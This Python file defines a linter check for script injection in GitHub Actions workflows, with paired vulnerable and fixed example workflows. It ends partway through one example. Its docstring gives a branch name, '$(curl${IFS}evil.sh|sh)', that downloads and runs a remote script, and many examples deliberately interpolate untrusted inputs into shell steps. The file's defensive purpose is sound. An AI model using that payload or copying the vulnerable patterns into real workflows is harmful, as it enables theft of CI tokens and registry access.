"""Text of others becomes part of a script

GitHub fills `${{ … }}` in before the shell reads a script. Where the text comes from a pull request, an
issue, a commit or a form, whoever writes it writes a part of the script: a branch may be called
`$(curl${IFS}evil.sh|sh)`. In a job that builds, signs or pushes, those commands have what the job has: its
token, the registry that it is logged in to, the role that it has assumed.

Hand the text over in a variable of the step, and read it in double quotes: the shell never takes the value of
a variable for a command.

What else reads the same is shown and mended along:

- other steps of the workflow, in jobs that make no images or behind a condition that may be about who has
  written it
- scripts of `actions/github-script`, which read a variable as `process.env.NAME`
- those of workflows of the repository that are called with it
- those that read it from `docker/metadata-action`, which leaves names of images and labels as they are

A script of another job that makes images has a finding and a fix of its own.

JavaScript is mended only where it is surely a string that holds the text, and all that a script has of it.
Else the script stays as it is, and the fix names the lines.

The check is silent

- for what others can't write: digests and other outputs of steps, commits, numbers, choices
- for `github.ref_name`, since who pushes the ref pushes the workflow with it
- for events that don't fill a context
- for what an earlier step or job lets pass only if a pattern of plain characters describes it, or takes for
  the tag of an image or for the name of a repository
- for pull requests where a condition keeps forks out
- for comments and issues where a condition may be about who wrote them

Where nothing but a label starts the job for a pull request from elsewhere, it is a warning: who may triage puts that on it,
perhaps without a look at the name of the branch.

Inputs of a reusable workflow count as what its callers in the repository pass.

References:

- https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks
- https://docs.github.com/en/actions/concepts/security/script-injections
- https://securitylab.github.com/resources/github-actions-untrusted-input/
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping

from checks.check import (
    Applicability,
    Check,
    Example,
    Finding,
    Kind,
    Location,
    Repository,
    Scope,
    Severity,
    Span,
    code,
    offer,
)  # fmt: skip
from checks.facts.script.foreign_contexts import Reach
from checks.facts.script.foreign_text import Foreign, contexts_in, foreign_texts
from checks.facts.script.makefiles import make_runs, script_lines
from checks.facts.script.script_edits import is_in_single_quotes, may_be_several, moved_to_environment
from checks.facts.script.scripts import parse_script
from checks.facts.script.validated_texts import is_validated
from checks.facts.token.github_script import code_in
from checks.facts.workflow.handed_on import HandedOn, handed_on
from checks.facts.workflow.workflows import Step, Workflow

check = Check(
    id="template-injection-in-run",
    doc=__doc__,
    severity=Severity.ERROR,
    kinds=(Kind.WORKFLOW, Kind.MAKEFILE),
    fix=Applicability.SAFE,
    scope=Scope.REPOSITORY,
    tags=("security", "injection"),
    security_severity=8.8,
    peers=("zizmor:template-injection",),
    examples=(
        Example(
            title="the job that reads it waits for a label, and the one beside it for nothing",
            files="""\
-- .github/workflows/preview.yml --
on: {pull_request_target: {types: [labeled, synchronize]}}
permissions: {contents: read, packages: write}
jobs:
  hello:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "${{ github.head_ref }}"
  preview:
    if: contains(github.event.pull_request.labels.*.name, 'preview')
    runs-on: ubuntu-24.04
    steps:
      - run: docker build --push --build-arg FROM_BRANCH="${{ github.head_ref }}" -t ghcr.io/acme/web:preview .
""",
            at="${{ github.head_ref }}",
            fixed="""\
-- .github/workflows/preview.yml --
on: {pull_request_target: {types: [labeled, synchronize]}}
permissions: {contents: read, packages: write}
jobs:
  hello:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "$HEAD_REF"
        env:
          HEAD_REF: ${{ github.head_ref }}
  preview:
    if: contains(github.event.pull_request.labels.*.name, 'preview')
    runs-on: ubuntu-24.04
    steps:
      - run: docker build --push --build-arg FROM_BRANCH="$HEAD_REF" -t ghcr.io/acme/web:preview .
        env:
          HEAD_REF: ${{ github.head_ref }}
""",
        ),
        Example(
            title="docker/metadata-action makes of it the names of images, which scripts read; of a tag it leaves nothing to run",
            files="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {name: {type: string}, version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    outputs: {all: "${{ steps.meta.outputs.json }}"}
    steps:
      - id: given
        run: echo "name=${{ inputs.name }}" >> "$GITHUB_OUTPUT"
      - id: meta
        uses: docker/metadata-action@v6
        with:
          images: ghcr.io/acme/${{ steps.given.outputs.name }}
          tags: type=raw,value=${{ inputs.version }}
      - id: fixed
        uses: docker/metadata-action@v6
        with: {images: ghcr.io/acme/web, tags: "${{ steps.given.outputs.name }}"}
      - run: docker buildx imagetools create -t "${{ steps.meta.outputs.tags }}" ghcr.io/acme/base
      - run: docker push ${{ steps.fixed.outputs.tags }}
  tell:
    runs-on: ubuntu-latest
    needs: image
    steps:
      - run: echo "${{ needs.image.outputs.all }}"
  other:
    runs-on: ubuntu-latest
    steps:
      - id: direct
        uses: docker/metadata-action@v6
        with:
          images: |
            name=ghcr.io/acme/${{ inputs.name }}
      - run: docker pull "${{ steps.direct.outputs.tags }}"
""",
            at="${{ inputs.name }}",
            fixed="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {name: {type: string}, version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    outputs: {all: "${{ steps.meta.outputs.json }}"}
    steps:
      - id: given
        env:
          INPUT_NAME: ${{ inputs.name }}
        run: echo "name=$INPUT_NAME" >> "$GITHUB_OUTPUT"
      - id: meta
        uses: docker/metadata-action@v6
        with:
          images: ghcr.io/acme/${{ steps.given.outputs.name }}
          tags: type=raw,value=${{ inputs.version }}
      - id: fixed
        uses: docker/metadata-action@v6
        with: {images: ghcr.io/acme/web, tags: "${{ steps.given.outputs.name }}"}
      - run: docker buildx imagetools create -t "$OUTPUT_TAGS" ghcr.io/acme/base
        env:
          OUTPUT_TAGS: ${{ steps.meta.outputs.tags }}
      - run: docker push ${{ steps.fixed.outputs.tags }}
  tell:
    runs-on: ubuntu-latest
    needs: image
    steps:
      - run: echo "$OUTPUT_ALL"
        env:
          OUTPUT_ALL: ${{ needs.image.outputs.all }}
  other:
    runs-on: ubuntu-latest
    steps:
      - id: direct
        uses: docker/metadata-action@v6
        with:
          images: |
            name=ghcr.io/acme/${{ inputs.name }}
      - run: docker pull "$OUTPUT_TAGS"
        env:
          OUTPUT_TAGS: ${{ steps.direct.outputs.tags }}
""",
        ),
        Example(
            title="a condition says what one of them is",
            files="""\
-- .github/workflows/push.yml --
on:
  workflow_dispatch: {inputs: {service: {type: string}, tag: {type: string}}}
permissions: {contents: read, packages: write}
jobs:
  push:
    runs-on: ubuntu-24.04
    steps:
      - if: github.event.inputs.service == 'web' && success()
        run: docker build -t ghcr.io/acme/${{ inputs.service }}:1 --push web
      - if: ${{ inputs.service == 'api' }}
        run: docker build -t ghcr.io/acme/${{ inputs.service }}:${{ inputs.tag }} --push api
""",
            at="${{ inputs.tag }}",
            fixed="""\
-- .github/workflows/push.yml --
on:
  workflow_dispatch: {inputs: {service: {type: string}, tag: {type: string}}}
permissions: {contents: read, packages: write}
jobs:
  push:
    runs-on: ubuntu-24.04
    steps:
      - if: github.event.inputs.service == 'web' && success()
        run: docker build -t ghcr.io/acme/${{ inputs.service }}:1 --push web
      - if: ${{ inputs.service == 'api' }}
        env:
          INPUT_TAG: ${{ inputs.tag }}
        run: docker build -t "ghcr.io/acme/${{ inputs.service }}:$INPUT_TAG" --push api
""",
        ),
        Example(
            title="the condition allows another, or always holds",
            files="""\
-- .github/workflows/push.yml --
on:
  workflow_dispatch: {inputs: {service: {type: string}}}
permissions: {contents: read, packages: write}
jobs:
  push:
    runs-on: ubuntu-24.04
    steps:
      - if: inputs.service == 'web' || inputs.service != ''
        run: docker build -t ghcr.io/acme/${{ inputs.service }}:1 --push web
      - if: ${{ inputs.service }} == 'api'
        run: docker build -t ghcr.io/acme/${{ inputs.service }}:2 --push api
""",
            at=("${{ inputs.service }}", "${{ inputs.service }}"),
            fixed="""\
-- .github/workflows/push.yml --
on:
  workflow_dispatch: {inputs: {service: {type: string}}}
permissions: {contents: read, packages: write}
jobs:
  push:
    runs-on: ubuntu-24.04
    steps:
      - if: inputs.service == 'web' || inputs.service != ''
        env:
          INPUT_SERVICE: ${{ inputs.service }}
        run: docker build -t "ghcr.io/acme/$INPUT_SERVICE:1" --push web
      - if: ${{ inputs.service }} == 'api'
        run: docker build -t ghcr.io/acme/${{ inputs.service }}:2 --push api
""",
        ),
        Example(
            title="a release's tag beside, which those write who may push",
            files="""\
-- .github/workflows/release.yml --
on:
  release: {types: [published]}
  workflow_dispatch: {inputs: {version: {type: string}}}
permissions: {contents: read, packages: write}
jobs:
  publish:
    runs-on: ubuntu-24.04
    steps:
      - name: Publish
        run: |
          VERSION="${{ inputs.version }}"
          if [ -z "$VERSION" ]; then
            VERSION="${{ github.event.release.tag_name }}"
          fi
          docker build -t "ghcr.io/acme/web:$VERSION" --push .
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on:
  release: {types: [published]}
  workflow_dispatch: {inputs: {version: {type: string}}}
permissions: {contents: read, packages: write}
jobs:
  publish:
    runs-on: ubuntu-24.04
    steps:
      - name: Publish
        env:
          INPUT_VERSION: ${{ inputs.version }}
          RELEASE_TAG: ${{ github.event.release.tag_name }}
        run: |
          VERSION="$INPUT_VERSION"
          if [ -z "$VERSION" ]; then
            VERSION="$RELEASE_TAG"
          fi
          docker build -t "ghcr.io/acme/web:$VERSION" --push .
""",
        ),
        Example(
            title="what a script is given it hands on as an output, which later scripts are given",
            files="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: version
        run: |
          VERSION="${{ inputs.version }}"
          echo "number=${VERSION#v}" | tee -a "$GITHUB_OUTPUT"
          echo "commit=$(git rev-parse HEAD)" >> "$GITHUB_OUTPUT"
      - run: |
          docker build --push -t "ghcr.io/acme/web:${{ steps.version.outputs.number }}" .
          echo "${{ steps.version.outputs.commit }} is ${{ steps.version.outputs.number }}"
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: version
        env:
          INPUT_VERSION: ${{ inputs.version }}
        run: |
          VERSION="$INPUT_VERSION"
          echo "number=${VERSION#v}" | tee -a "$GITHUB_OUTPUT"
          echo "commit=$(git rev-parse HEAD)" >> "$GITHUB_OUTPUT"
      - run: |
          docker build --push -t "ghcr.io/acme/web:$OUTPUT_NUMBER" .
          echo "${{ steps.version.outputs.commit }} is $OUTPUT_NUMBER"
        env:
          OUTPUT_NUMBER: ${{ steps.version.outputs.number }}
""",
        ),
        Example(
            title="values of several lines that one command writes, or that end by a variable",
            files="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: version
        run: |
          VERSION="${{ inputs.version }}"
          printf 'summary<<END\\n%s\\nEND\\n' "$VERSION" >> "$GITHUB_OUTPUT"
          printf "about<<${END}\\n%s\\n${END}\\n" "$VERSION" >> "$GITHUB_OUTPUT"
          {
            echo "notes<<$END"
            echo "Version $VERSION"
            echo "${END}"
          } >> "$GITHUB_OUTPUT"
          cat<<END >> "$GITHUB_ENV"
          LABEL=web-$VERSION
          END
          echo "number=${VERSION#v}" >> "$GITHUB_OUTPUT"
      - run: |
          docker build --push -t "ghcr.io/acme/web:${{ steps.version.outputs.number }}" .
          echo "${{ env.LABEL }}: ${{ steps.version.outputs.summary }}, ${{ steps.version.outputs.notes }}"
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: version
        env:
          INPUT_VERSION: ${{ inputs.version }}
        run: |
          VERSION="$INPUT_VERSION"
          printf 'summary<<END\\n%s\\nEND\\n' "$VERSION" >> "$GITHUB_OUTPUT"
          printf "about<<${END}\\n%s\\n${END}\\n" "$VERSION" >> "$GITHUB_OUTPUT"
          {
            echo "notes<<$END"
            echo "Version $VERSION"
            echo "${END}"
          } >> "$GITHUB_OUTPUT"
          cat<<END >> "$GITHUB_ENV"
          LABEL=web-$VERSION
          END
          echo "number=${VERSION#v}" >> "$GITHUB_OUTPUT"
      - run: |
          docker build --push -t "ghcr.io/acme/web:$OUTPUT_NUMBER" .
          echo "$LABEL: $OUTPUT_SUMMARY, $OUTPUT_NOTES"
        env:
          OUTPUT_NUMBER: ${{ steps.version.outputs.number }}
          OUTPUT_SUMMARY: ${{ steps.version.outputs.summary }}
          OUTPUT_NOTES: ${{ steps.version.outputs.notes }}
""",
        ),
        Example(
            title="a block and a here-document hand it on, one output with several lines",
            files="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: version
        run: |
          VERSION="${{ inputs.version }}"
          {
            echo "number=${VERSION#v}"
            echo "commit=$(git rev-parse HEAD)"
            echo 'summary<<END'
            echo "Version $VERSION"
            echo 'END'
            echo "registry=ghcr.io/acme"
          } >> "$GITHUB_OUTPUT"
          cat >> "$GITHUB_ENV" <<END
          LABEL=web-$VERSION
          DAY=$(date +%F)
          END
      - run: |
          docker build --push -t "${{ steps.version.outputs.registry }}/web:${{ steps.version.outputs.number }}" .
          echo "${{ steps.version.outputs.commit }}: ${{ steps.version.outputs.summary }}, ${{ env.LABEL }} of ${{ env.DAY }}"
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: version
        env:
          INPUT_VERSION: ${{ inputs.version }}
        run: |
          VERSION="$INPUT_VERSION"
          {
            echo "number=${VERSION#v}"
            echo "commit=$(git rev-parse HEAD)"
            echo 'summary<<END'
            echo "Version $VERSION"
            echo 'END'
            echo "registry=ghcr.io/acme"
          } >> "$GITHUB_OUTPUT"
          cat >> "$GITHUB_ENV" <<END
          LABEL=web-$VERSION
          DAY=$(date +%F)
          END
      - run: |
          docker build --push -t "${{ steps.version.outputs.registry }}/web:$OUTPUT_NUMBER" .
          echo "${{ steps.version.outputs.commit }}: $OUTPUT_SUMMARY, $LABEL of ${{ env.DAY }}"
        env:
          OUTPUT_NUMBER: ${{ steps.version.outputs.number }}
          OUTPUT_SUMMARY: ${{ steps.version.outputs.summary }}
""",
        ),
        Example(
            title="a later script is given it as an argument, another one as code of its own: that is left to its author",
            files="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: version
        run: echo "number=${{ inputs.version }}" >> "$GITHUB_OUTPUT"
      - run: bash build.sh "${{ steps.version.outputs.number }}"
      - run: bash -c "docker push ghcr.io/acme/web:${{ steps.version.outputs.number }}"
      - run: docker push ghcr.io/acme/web:latest
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: version
        env:
          INPUT_VERSION: ${{ inputs.version }}
        run: echo "number=$INPUT_VERSION" >> "$GITHUB_OUTPUT"
      - run: bash build.sh "$OUTPUT_NUMBER"
        env:
          OUTPUT_NUMBER: ${{ steps.version.outputs.number }}
      - run: bash -c "docker push ghcr.io/acme/web:${{ steps.version.outputs.number }}"
      - run: docker push ghcr.io/acme/web:latest
""",
        ),
        Example(
            title="a script of another job is given it as an output of the job",
            files="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    outputs:
      number: ${{ steps.version.outputs.number }}
      digest: ${{ steps.push.outputs.digest }}
    steps:
      - id: version
        run: echo "number=${{ inputs.version }}" >> "$GITHUB_OUTPUT"
      - id: push
        uses: docker/build-push-action@v7
        with: {push: true, tags: ghcr.io/acme/web:latest}
  notes:
    needs: image
    runs-on: ubuntu-latest
    steps:
      - run: ./notes.sh ${{ needs.image.outputs.number }} ${{ needs.image.outputs.digest }}
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    outputs:
      number: ${{ steps.version.outputs.number }}
      digest: ${{ steps.push.outputs.digest }}
    steps:
      - id: version
        env:
          INPUT_VERSION: ${{ inputs.version }}
        run: echo "number=$INPUT_VERSION" >> "$GITHUB_OUTPUT"
      - id: push
        uses: docker/build-push-action@v7
        with: {push: true, tags: ghcr.io/acme/web:latest}
  notes:
    needs: image
    runs-on: ubuntu-latest
    steps:
      - run: ./notes.sh "$OUTPUT_NUMBER" ${{ needs.image.outputs.digest }}
        env:
          OUTPUT_NUMBER: ${{ needs.image.outputs.number }}
""",
        ),
        Example(
            title="the name of a repository that a job before has checked out",
            files="""\
-- .github/workflows/mirror.yml --
on: {workflow_dispatch: {inputs: {source: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  fetch:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v7
        with: {repository: '${{ inputs.source }}'}
  tell:
    needs: fetch
    runs-on: ubuntu-latest
    steps:
      - run: echo "from ${{ inputs.source }}" >> "$GITHUB_STEP_SUMMARY"
      - uses: docker/build-push-action@v7
        with: {push: true, tags: ghcr.io/acme/web:latest}
""",
        ),
        Example(
            title="a ref that it has checked out, which may have other characters",
            files="""\
-- .github/workflows/mirror.yml --
on: {workflow_dispatch: {inputs: {source: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  fetch:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v7
        with: {ref: '${{ inputs.source }}'}
  tell:
    needs: fetch
    runs-on: ubuntu-latest
    steps:
      - run: echo "from ${{ inputs.source }}" >> "$GITHUB_STEP_SUMMARY"
      - uses: docker/build-push-action@v7
        with: {push: true, tags: ghcr.io/acme/web:latest}
""",
            at="${{ inputs.source }}",
            fixed="""\
-- .github/workflows/mirror.yml --
on: {workflow_dispatch: {inputs: {source: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  fetch:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v7
        with: {ref: '${{ inputs.source }}'}
  tell:
    needs: fetch
    runs-on: ubuntu-latest
    steps:
      - run: echo "from $INPUT_SOURCE" >> "$GITHUB_STEP_SUMMARY"
        env:
          INPUT_SOURCE: ${{ inputs.source }}
      - uses: docker/build-push-action@v7
        with: {push: true, tags: ghcr.io/acme/web:latest}
""",
        ),
        Example(
            title="a repository of another server, which may answer for any name",
            files="""\
-- .github/workflows/mirror.yml --
on: {workflow_dispatch: {inputs: {source: {type: string}, server: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  fetch:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v7
        with: {repository: '${{ inputs.source }}', github-server-url: '${{ inputs.server }}'}
  tell:
    needs: fetch
    runs-on: ubuntu-latest
    steps:
      - run: echo "from ${{ inputs.source }}" >> "$GITHUB_STEP_SUMMARY"
      - uses: docker/build-push-action@v7
        with: {push: true, tags: ghcr.io/acme/web:latest}
""",
            at="${{ inputs.source }}",
            fixed="""\
-- .github/workflows/mirror.yml --
on: {workflow_dispatch: {inputs: {source: {type: string}, server: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  fetch:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v7
        with: {repository: '${{ inputs.source }}', github-server-url: '${{ inputs.server }}'}
  tell:
    needs: fetch
    runs-on: ubuntu-latest
    steps:
      - run: echo "from $INPUT_SOURCE" >> "$GITHUB_STEP_SUMMARY"
        env:
          INPUT_SOURCE: ${{ inputs.source }}
      - uses: docker/build-push-action@v7
        with: {push: true, tags: ghcr.io/acme/web:latest}
""",
        ),
        Example(
            title="scripts of actions/github-script read it, too, and what is handed on",
            files="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, issues: write, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: name
        run: echo "tag=v${{ inputs.version }}" >> "$GITHUB_OUTPUT"
      - run: docker build --push -t ghcr.io/acme/web:latest .
      - uses: actions/github-script@v8
        with:
          script: |
            // of ${{ github.sha }}
            const version = '${{ inputs.version }}';
            const title = "Release ${{ inputs.version }} of " + `${version} ${'${{ inputs.version }}'} ${{ steps.name.outputs.tag }}`;
            await github.rest.issues.create({ ...context.repo, title });
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, issues: write, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: name
        env:
          INPUT_VERSION: ${{ inputs.version }}
        run: echo "tag=v$INPUT_VERSION" >> "$GITHUB_OUTPUT"
      - run: docker build --push -t ghcr.io/acme/web:latest .
      - uses: actions/github-script@v8
        env:
          INPUT_VERSION: ${{ inputs.version }}
          OUTPUT_TAG: ${{ steps.name.outputs.tag }}
        with:
          script: |
            // of ${{ github.sha }}
            const version = process.env.INPUT_VERSION;
            const title = `Release ${process.env.INPUT_VERSION} of ` + `${version} ${process.env.INPUT_VERSION} ${process.env.OUTPUT_TAG}`;
            await github.rest.issues.create({ ...context.repo, title });
""",
        ),
        Example(
            title="JavaScript that reads it outside of strings is left to its author; alone, a script of a job that makes images is no shell's",
            files="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - run: docker build --push -t ghcr.io/acme/web:${{ inputs.version }} .
      - uses: actions/github-script@v8
        with: {script: 'core.info(${{ inputs.version }})'}
-- .github/workflows/other.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - run: docker build --push -t ghcr.io/acme/web:latest .
      - uses: actions/github-script@v8
        with: {script: 'core.info("${{ inputs.version }}")'}
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {version: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - run: docker build --push -t "ghcr.io/acme/web:$INPUT_VERSION" .
        env:
          INPUT_VERSION: ${{ inputs.version }}
      - uses: actions/github-script@v8
        with: {script: 'core.info(${{ inputs.version }})'}
""",
        ),
        Example(
            title="workflows are called with it, and with an output that holds it; one checks it first",
            files="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {tag: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    outputs: {tag: '${{ steps.name.outputs.tag }}'}
    steps:
      - id: name
        run: echo "tag=v${{ inputs.tag }}" >> "$GITHUB_OUTPUT"
      - run: docker build --push -t ghcr.io/acme/web:latest .
  smoke:
    needs: image
    uses: ./.github/workflows/smoke.yml
    with: {tag: '${{ needs.image.outputs.tag }}', site: example.com}
  notes:
    uses: ./.github/workflows/notes.yml
    with: {version: '${{ inputs.tag }}'}
-- .github/workflows/smoke.yml --
on: {workflow_call: {inputs: {tag: {type: string}, site: {type: string}}}}
jobs:
  smoke:
    runs-on: ubuntu-latest
    steps:
      - run: ./smoke.sh "${{ inputs.tag }}" "${{ inputs.site }}"
-- .github/workflows/notes.yml --
on: {workflow_call: {inputs: {version: {type: string}}}}
jobs:
  notes:
    runs-on: ubuntu-latest
    steps:
      - env: {VERSION: '${{ inputs.version }}'}
        run: |
          if [[ ! "$VERSION" =~ ^[0-9.]+$ ]]; then
            exit 1
          fi
      - run: ./notes.sh "${{ inputs.version }}"
""",
            at="${{ inputs.tag }}",
            fixed="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {tag: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    outputs: {tag: '${{ steps.name.outputs.tag }}'}
    steps:
      - id: name
        env:
          INPUT_TAG: ${{ inputs.tag }}
        run: echo "tag=v$INPUT_TAG" >> "$GITHUB_OUTPUT"
      - run: docker build --push -t ghcr.io/acme/web:latest .
  smoke:
    needs: image
    uses: ./.github/workflows/smoke.yml
    with: {tag: '${{ needs.image.outputs.tag }}', site: example.com}
  notes:
    uses: ./.github/workflows/notes.yml
    with: {version: '${{ inputs.tag }}'}
-- .github/workflows/smoke.yml --
on: {workflow_call: {inputs: {tag: {type: string}, site: {type: string}}}}
jobs:
  smoke:
    runs-on: ubuntu-latest
    steps:
      - run: ./smoke.sh "$INPUT_TAG" "${{ inputs.site }}"
        env:
          INPUT_TAG: ${{ inputs.tag }}
""",
        ),
        Example(
            title="steps for releases, or for tags, whose name the script puts in its place, get nothing of it",
            files="""\
-- .github/workflows/release.yml --
on:
  release: {types: [published]}
  workflow_dispatch: {inputs: {version: {type: string}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: name
        run: |
          TAG="${{ inputs.version }}-test"
          if [[ "$GITHUB_REF" == refs/tags/* ]]; then
            TAG="${GITHUB_REF#refs/tags/}"
          fi
          echo "tag=$TAG" >> "$GITHUB_OUTPUT"
          echo "asked=${{ inputs.version }}" >> "$GITHUB_OUTPUT"
      - run: docker build --push -t ghcr.io/acme/web:${{ steps.name.outputs.tag }} .
      - if: github.event_name == 'release'
        run: docker pull ghcr.io/acme/web:${{ steps.name.outputs.asked }}
      - if: startsWith(github.ref, 'refs/tags/v')
        run: echo "${{ steps.name.outputs.tag }} is ${{ steps.name.outputs.asked }}"
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on:
  release: {types: [published]}
  workflow_dispatch: {inputs: {version: {type: string}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: name
        env:
          INPUT_VERSION: ${{ inputs.version }}
        run: |
          TAG="$INPUT_VERSION-test"
          if [[ "$GITHUB_REF" == refs/tags/* ]]; then
            TAG="${GITHUB_REF#refs/tags/}"
          fi
          echo "tag=$TAG" >> "$GITHUB_OUTPUT"
          echo "asked=$INPUT_VERSION" >> "$GITHUB_OUTPUT"
      - run: docker build --push -t "ghcr.io/acme/web:$OUTPUT_TAG" .
        env:
          OUTPUT_TAG: ${{ steps.name.outputs.tag }}
      - if: github.event_name == 'release'
        run: docker pull ghcr.io/acme/web:${{ steps.name.outputs.asked }}
      - if: startsWith(github.ref, 'refs/tags/v')
        env:
          OUTPUT_ASKED: ${{ steps.name.outputs.asked }}
        run: echo "${{ steps.name.outputs.tag }} is $OUTPUT_ASKED"
""",
        ),
        Example(
            title="behind the variables of a container, and before what is filled in",
            files="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {tag: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    strategy: {matrix: {suffix: ['', '-slim']}}
    steps:
      - run: |
          docker run -e "TOKEN=${{ secrets.TOKEN }}" "ghcr.io/acme/web:${{ inputs.tag }}${{ matrix.suffix }}" check
          docker push --all-tags ghcr.io/acme/web
""",
            at="${{ inputs.tag }}",
            fixed="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {tag: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    strategy: {matrix: {suffix: ['', '-slim']}}
    steps:
      - run: |
          docker run -e "TOKEN=${{ secrets.TOKEN }}" "ghcr.io/acme/web:${INPUT_TAG}${{ matrix.suffix }}" check
          docker push --all-tags ghcr.io/acme/web
        env:
          INPUT_TAG: ${{ inputs.tag }}
""",
        ),
        Example(
            title="what it sets as a variable of later steps",
            files="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {tag: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - run: echo "TAG=${{ inputs.tag }}" >> "$GITHUB_ENV"
      - run: docker build --push -t ghcr.io/acme/web:${{ env.TAG }} .
""",
            at="${{ inputs.tag }}",
            fixed="""\
-- .github/workflows/release.yml --
on: {workflow_dispatch: {inputs: {tag: {type: string}}}}
permissions: {contents: read, packages: write}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - run: echo "TAG=$INPUT_TAG" >> "$GITHUB_ENV"
        env:
          INPUT_TAG: ${{ inputs.tag }}
      - run: docker build --push -t "ghcr.io/acme/web:$TAG" .
""",
        ),
        Example(
            title="the name of a branch, in a job that has the secrets of the repository",
            files="""\
-- .github/workflows/preview.yml --
on: pull_request_target
permissions: {contents: read, packages: write}
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: docker/login-action@v4
        with: {registry: ghcr.io, username: '${{ github.actor }}', password: '${{ secrets.GITHUB_TOKEN }}'}
      - name: build  # of the base
        run: |
          echo "Preview of ${{ github.head_ref }}"
          docker build --label branch=${{ github.head_ref }} -t ghcr.io/acme/web:preview .
          docker push ghcr.io/acme/web:preview
""",
            at="${{ github.head_ref }}",
            fixed="""\
-- .github/workflows/preview.yml --
on: pull_request_target
permissions: {contents: read, packages: write}
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: docker/login-action@v4
